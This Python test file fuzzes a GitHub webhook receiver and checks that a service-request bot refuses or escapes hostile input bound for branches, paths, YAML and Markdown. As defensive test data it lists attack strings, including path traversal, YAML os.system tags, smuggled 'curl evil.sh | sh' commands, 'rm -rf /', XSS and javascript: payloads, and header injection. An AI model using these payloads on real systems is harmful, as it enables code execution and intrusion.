"""Hostile input at the edge. The receiver under random headers and bodies never answers 500;
user strings that reach branch names, file paths, YAML and Markdown are refused or escaped.

Hypothesis runs a modest number of examples per property so the file stays fast in CI; the
targeted cases below pin the attacks we know about.
"""

from __future__ import annotations

import json
import re
import uuid
from typing import Any

import hypothesis
import pytest
import yaml
from hypothesis import HealthCheck, given
from hypothesis import strategies as st
from starlette.testclient import TestClient

from app.domain.service import NAME_RE, ServiceRequest
from app.github.forge import validate_branch, validate_path
from app.grammar.commands import CommandError, escape_user_text, parse_comment, parse_issue_form
from app.untrusted import inline_markdown
from app.web import WEBHOOK_PATH, create_app
from tests import payloads
from tests.conftest import WEBHOOK_SECRET
from tools.builtin.publish import branch_for, inert_closing_keywords
from tools.render import render_service

FUZZ = hypothesis.settings(
    max_examples=40,
    deadline=None,
    database=None,  # failures print their example; no .hypothesis folder in the tree
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# What the receiver may answer to anything at all: accepted, duplicate, ignored, rejected.
NOT_A_SERVER_ERROR = {200, 202, 400, 401, 413}
KNOWN_EVENTS = ["issue_comment", "issues", "pull_request", "ping", "installation"]


@pytest.fixture
def client(settings, redis_conn):
    # raise_server_exceptions: an exception escaping the app fails the test, not only a 500.
    return TestClient(create_app(settings, connection=redis_conn), raise_server_exceptions=True)


def post(client: TestClient, body: bytes, headers: dict[str, Any]):
    response = client.post(WEBHOOK_PATH, content=body, headers=headers)
    answer = response.json()
    assert isinstance(answer["status"], str) and isinstance(answer["reason"], str)
    return response


# -- strategies ------------------------------------------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(), inner, max_size=5),
    max_leaves=25,
)
# Header values as raw bytes: control characters, non-ASCII and CR/LF reach the app as-is.
odd_bytes = st.binary(max_size=300)
# Text goes out UTF-8 encoded, as a client would send it; the server reads header bytes as
# latin-1, so non-ASCII text arrives as other (sometimes unprintable) characters.
utf8_text = st.text(max_size=300).map(str.encode)
delivery_ids = st.one_of(st.uuids().map(str), utf8_text, odd_bytes)
event_names = st.one_of(st.sampled_from(KNOWN_EVENTS), utf8_text, odd_bytes)
bodies = st.one_of(
    st.binary(max_size=2000),
    json_values.map(lambda v: json.dumps(v).encode()),
    st.sampled_from([b"", b"{", b"null", b"[]", b'{"action": "created"}', b"\xff\xfe{}"]),
)


def delivery_headers(event: Any, delivery: Any, signature: Any) -> dict[str, Any]:
    headers: dict[str, Any] = {"Content-Type": "application/json"}
    for name, value in (
        ("X-GitHub-Event", event),
        ("X-GitHub-Delivery", delivery),
        ("X-Hub-Signature-256", signature),
    ):
        if value is not None:
            headers[name] = value
    return headers


@st.composite
def signatures(draw: st.DrawFn, body: bytes) -> Any:
    return draw(
        st.one_of(
            st.none(),
            odd_bytes,
            st.text(alphabet="0123456789abcdef", min_size=64, max_size=64).map("sha256=".__add__),
            st.just(payloads.sign(body, WEBHOOK_SECRET)),
            st.just(payloads.sign(body, "some-other-secret")),
        )
    )


def key_paths(value: Any, prefix: tuple = ()) -> list[tuple]:
    """Every path to a value inside a JSON document, for mutating real payloads."""
    paths = [prefix] if prefix else []
    if isinstance(value, dict):
        for key, item in value.items():
            paths += key_paths(item, (*prefix, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            paths += key_paths(item, (*prefix, index))
    return paths


def replace_at(document: Any, path: tuple, new: Any) -> None:
    for step in path[:-1]:
        document = document[step]
    document[path[-1]] = new


hostile_text = st.one_of(
    st.text(max_size=200),
    st.sampled_from(
        [
            "/idp create-service ../../etc/passwd",
            "/idp create-service @everyone",
            "/idp set cpu=!!python/object/apply:os.system",
            "/idp feedback `</details>` @org/team",
            "### Service name\n\n../x\n",
            "\u202e/idp plan",
            "/idp " + "a" * 5000,
        ]
    ),
)


@st.composite
def mutated_payloads(draw: st.DrawFn) -> tuple[str, dict]:
    """A real GitHub payload with a few values swapped for random JSON."""
    text = draw(hostile_text)
    event, payload = draw(
        st.sampled_from(
            [
                ("issue_comment", payloads.issue_comment(text)),
                ("issue_comment", payloads.issue_comment(text, on_pull_request=True)),
                ("issues", payloads.issues_opened(text, labels=["idp:new-service"])),
                ("issues", payloads.issues_labeled(body=text)),
                ("ping", payloads.ping()),
            ]
        )
    )
    for _ in range(draw(st.integers(0, 4))):
        path = draw(st.sampled_from(key_paths(payload)))
        replace_at(payload, path, draw(json_values))
    return event, payload


# -- the receiver ----------------------------------------------------------------------------


@FUZZ
@given(event=event_names, delivery=delivery_ids, body=bodies, data=st.data())
def test_random_headers_and_bodies_never_get_a_server_error(client, event, delivery, body, data):
    signature = data.draw(signatures(body))
    response = post(client, body, delivery_headers(event, delivery, signature))
    assert response.status_code in NOT_A_SERVER_ERROR


@FUZZ
@given(event=st.sampled_from(KNOWN_EVENTS) | st.text(min_size=1, max_size=40), value=json_values)
def test_validly_signed_json_gets_2xx_for_an_object_and_400_for_anything_else(client, event, value):
    body = json.dumps(value).encode()
    headers = payloads.headers(event, body, WEBHOOK_SECRET) | {"X-GitHub-Event": event.encode()}
    response = post(client, body, headers)
    if isinstance(value, dict) and event.encode().decode("latin-1").isprintable():
        assert 200 <= response.status_code < 300, response.json()
    else:
        assert response.status_code == 400, response.json()


@FUZZ
@given(mutated=mutated_payloads())
def test_validly_signed_github_payloads_with_random_values_are_accepted_or_ignored(client, mutated):
    event, payload = mutated
    body = payloads.encode(payload)
    response = post(client, body, payloads.headers(event, body, WEBHOOK_SECRET))
    assert response.status_code in (200, 202), response.json()
    assert response.json()["status"] in ("queued", "duplicate", "ignored")


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
        b'{"action": "created", "issue": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    ],
    ids=["array", "object", "inside-a-payload"],
)
def test_hugely_nested_json_is_refused_as_bad_input(client, body):
    response = post(client, body, payloads.headers("issue_comment", body, WEBHOOK_SECRET))
    assert response.status_code == 400
    assert response.json()["status"] == "rejected"


def test_nesting_that_json_can_read_is_ignored_with_a_reason(client):
    payload = payloads.issue_comment("/idp plan")
    payload["issue"]["labels"] = json.loads("[" * 500 + "]" * 500)
    body = payloads.encode(payload)
    response = post(client, body, payloads.headers("issue_comment", body, WEBHOOK_SECRET))
    assert response.status_code == 202
    assert response.json()["status"] == "ignored"


@pytest.mark.parametrize(
    "delivery",
    ["a\r\nX-Injected: 1", "\x00" * 10, "d" * 201, "\u202egnp.exe", ""],
)
def test_odd_delivery_ids_are_rejected_before_anything_is_queued(client, redis_conn, delivery):
    body = payloads.encode(payloads.issue_comment("/idp plan"))
    headers = payloads.headers("issue_comment", body, WEBHOOK_SECRET, delivery_id=str(uuid.uuid4()))
    headers["X-GitHub-Delivery"] = delivery.encode()
    response = post(client, body, headers)
    assert response.status_code == 400
    assert "X-GitHub-Delivery" in response.json()["reason"]
    assert redis_conn.dbsize() == 0


# -- user strings on their way to branches, paths, YAML and Markdown --------------------------


def outside_code_spans(message: str) -> str:
    return "".join(message.split("`")[::2])


def assert_safe_to_echo(message: str) -> None:
    """A sentence we may post as a comment: one line, balanced code spans, no live mention,
    no HTML or link markup outside code spans."""
    assert "\n" not in message and "\r" not in message
    assert message.count("`") % 2 == 0, message
    assert "@" not in message.replace("@\u200b", ""), message
    prose = outside_code_spans(message)
    for markup in ("<", "](", "!!python"):
        assert markup not in prose, message


command_lines = st.lists(
    st.tuples(
        st.sampled_from(["create-service", "set", "deploy", "feedback", "plan", "creat", ""]),
        st.lists(
            st.one_of(
                st.text(max_size=30).filter(lambda s: "\n" not in s and "\r" not in s),
                st.sampled_from(
                    [
                        "../../etc/passwd",
                        "@everyone",
                        "`rm -rf /`",
                        "!!python/object/apply:os.system",
                        "--team",
                        "--lang=cobol",
                        "cpu=",
                        "memory=1Gi",
                        "ingress_host=evil.com/../x",
                        "team=@security",
                        '"',
                        "'",
                        "<!--",
                        "</details>",
                        "|",
                    ]
                ),
            ),
            max_size=5,
        ),
    ).map(lambda parts: f"/idp {parts[0]} {' '.join(parts[1])}"),
    min_size=1,
    max_size=4,
)


@FUZZ
@given(lines=command_lines)
def test_hostile_commands_parse_into_valid_values_or_errors_safe_to_echo(lines):
    commands, errors = parse_comment("\n".join(lines))
    for error in errors:
        assert_safe_to_echo(error.message)
    for command in commands:
        if command.service is not None:
            assert NAME_RE.fullmatch(command.service.name)
            assert NAME_RE.fullmatch(command.service.team)
        for key, value in command.values.items():
            assert value.isprintable() and not re.search(r"[\s`@]", value), (key, value)


@FUZZ
@given(text=st.text(max_size=300), limit=st.integers(5, 120))
def test_escaped_user_text_is_one_inert_code_span(text, limit):
    escaped = escape_user_text(text, limit)
    if escaped == "(nothing)":
        return
    assert escaped.startswith("`") and escaped.endswith("`")
    inner = escaped[1:-1]
    assert "`" not in inner
    assert inner.isprintable() or "\u200b" in inner
    assert "@" not in inner.replace("@\u200b", "") and "\u200b" not in inner.replace("@\u200b", "")
    assert len(inner.replace("\u200b", "")) <= limit


markdown_attacks = st.lists(
    st.sampled_from(
        [
            "# Heading",
            "> quote",
            "```",
            "~~~",
            "- [x] done",
            "1. item",
            "<details><summary>x",
            "<!-- hide the rest",
            "<img src=x onerror=alert(1)>",
            "![x](https://evil.example/p.png)",
            "[x](javascript:alert(1))",
            "@everyone",
            "@acme/team",
            "Closes #1",
            "fixes: acme/other#2",
            "\n",
            "\u200b",
            "\u202e",
        ]
    )
    | st.text(max_size=20),
    max_size=12,
).map("".join)


@FUZZ
@given(text=markdown_attacks, limit=st.integers(5, 300))
def test_model_or_user_text_for_one_line_of_a_comment_is_inert(text, limit):
    """What the todo and the pull request body show of a model's or user's text: one line,
    no raw HTML, no link or image, no block it could open, nobody pinged, no issue closed."""
    line = inert_closing_keywords(inline_markdown(text, limit))
    assert "\n" not in line and "\r" not in line
    assert not re.search(r"<[A-Za-z!/?]", line)
    assert "](" not in line
    assert not re.match(r"\s*([#>`~|=+*-]|\d+[.)])", line)
    assert "@" not in line.replace("@\u200b", "")
    closing = r"(?i)\b(close[sd]?|fix(e[sd])?|resolve[sd]?):?\s+([\w.-]+/[\w.-]+)?#\d"
    assert not re.search(closing, line)


@pytest.mark.parametrize(
    "line",
    [
        "/idp create-service ../../etc/passwd",
        "/idp create-service payments/../../.github/workflows",
        "/idp create-service 'payments\\nRUN curl evil.sh | sh'",
        "/idp create-service @everyone",
        "/idp create-service !!python/object/apply:os.system",
        "/idp create-service pay`ments`",
        "/idp create-service payments --team ../admins",
        "/idp create-service payments --team @security",
        "/idp set cpu=!!python/object/apply:os.system",
        "/idp set memory='1Gi\\ninjected: true'",
        "/idp set ingress_host=evil.com/../x",
        "/idp set liveness_path='/healthz`; curl evil`'",
        "/idp set team=../../admins",
        "/idp deploy production @everyone",
    ],
)
def test_hostile_values_are_refused_with_a_message_safe_to_post(line):
    commands, errors = parse_comment(line)
    assert commands == []
    assert len(errors) == 1
    assert_safe_to_echo(errors[0].message)


@pytest.mark.parametrize(
    "name",
    ["../../etc", "payments/api", "@everyone", "payments-api\n\nRUN curl evil.sh | sh"],
)
def test_issue_form_refuses_a_hostile_service_name(name):
    body = payloads.FORM_BODY.replace("payments-api", name)
    with pytest.raises(CommandError) as refused:
        parse_issue_form(body)
    assert_safe_to_echo(refused.value.message)


def test_hostile_description_lands_escaped_in_markdown_and_quoted_in_yaml():
    description = (
        "@everyone please review <!-- hidden --> </details> `code` [x](javascript:alert(1))\n"
        "kind: Secret\n!!python/object/apply:os.system ['id']"
    )
    body = payloads.FORM_BODY.replace(
        "Takes card payments for the web shop.", description.replace("\n", " ")
    )
    files = render_service(parse_issue_form(body))
    for path, text in files.items():
        assert validate_path(path) == path
        if path.endswith((".yaml", ".yml")):
            # safe_load refuses python tags: parsing at all means no tag was emitted.
            list(yaml.safe_load_all(text))
        if path.endswith(".md"):
            assert "@everyone" not in text
            assert "<!--" not in text and "</details>" not in text
    catalog = yaml.safe_load(files["services/payments-api/catalog-info.yaml"])
    assert "!!python/object" in catalog["metadata"]["description"]


@FUZZ
@given(name=st.from_regex(NAME_RE.pattern) | st.text(max_size=70))
def test_every_name_the_service_request_accepts_is_a_safe_path_and_branch(name):
    try:
        request = ServiceRequest(name=name)
    except ValueError:
        return
    assert validate_path(f"services/{request.name}/Dockerfile")
    assert validate_branch(f"idp/{request.name}")


@pytest.mark.parametrize("field", ["name", "team"])
def test_service_request_refuses_a_trailing_newline(field):
    # `$` in a regex also matches before a final newline; the name must end where it ends.
    values = {"name": "payments-api", field: "payments-api\n"}
    with pytest.raises(ValueError) as refused:
        ServiceRequest(**values)
    assert refused.value.errors()[0]["loc"] == (field,)


@FUZZ
@given(session_id=st.text(max_size=100))
def test_branch_for_any_session_id_is_a_valid_branch(session_id):
    branch = branch_for(session_id)
    assert validate_branch(branch) == branch
    assert re.fullmatch(r"idp/[a-z0-9-]+", branch)
